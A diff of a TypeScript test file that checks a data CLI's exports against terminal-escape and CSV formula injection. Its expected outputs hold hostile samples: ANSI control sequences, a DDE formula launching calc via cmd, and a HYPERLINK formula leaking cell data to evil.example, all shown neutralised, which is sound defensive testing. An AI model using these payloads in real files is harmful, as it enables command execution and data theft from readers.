@@ -123,9 +123,10 @@ describe("exports that cannot attack their readers", () => {
     expect(result.stdout.replace(/\n/g, "")).not.toMatch(RAW_CONTROL);
     expect(result.stdout).toContain('names the ward or village "W9\\u001b[1A\\u001b[2K", which is not in the dataset.');
     expect(result.stdout).toContain("NHG\\u001b[31m red (G1)");
-    // Every line is an issue line or the last line.
+    // Every line is a header line (the rule sets used, where the records start), an issue line or the last line.
     const lines = result.stdout.trimEnd().split("\n");
-    expect(lines.slice(0, -1).every((line) => /^(error|warning|info) +[a-z_.]+ +\S/.test(line))).toBe(true);
+    const header = lines.findIndex((line) => !/^(rules|records from): /.test(line));
+    expect(lines.slice(header, -1).every((line) => /^(error|warning|info) +[a-z_.]+ +\S/.test(line))).toBe(true);
     const json = cli(["validate", escapeFolder(), "--as-of", "2021-11-30", "--format", "json"]);
     expect(json.stdout).not.toMatch(RAW_CONTROL);
     const report = JSON.parse(json.stdout) as { issues: { message: string }[] };
@@ -184,9 +185,8 @@ describe("exports that cannot attack their readers", () => {
       expect(cells.slice(0, 3).some((cell) => /^[=+\-@\t\r\uff1d]/.test(cell))).toBe(false);
       expect(cells.slice(3).every((cell) => cell === "" || Number.isFinite(Number(cell)))).toBe(true);
     }
-    expect(result.stdout.split("\r\n")[1]).toBe(
-      `"'@W1","'@SUM(1+1)*cmd|' /C calc'!A0",all,1,0,0,0,,,,0,,0,0,,,0,0,0,0,0,0,0,0,0,0,0`,
-    );
+    // The figures' columns are formatSummary's to choose; the text cells come first, as written.
+    expect(result.stdout.split("\r\n")[1]).toMatch(/^"'@W1","'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0",all,1,0,/);
     const state = cli(["summarize", folder, "--level", "state", "--as-of", "2021-11-30", "--format", "csv"]);
     expect(state.stdout.split("\r\n")[1]).toMatch(
       /^KL,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A2,""Kerala""\)",all,/,
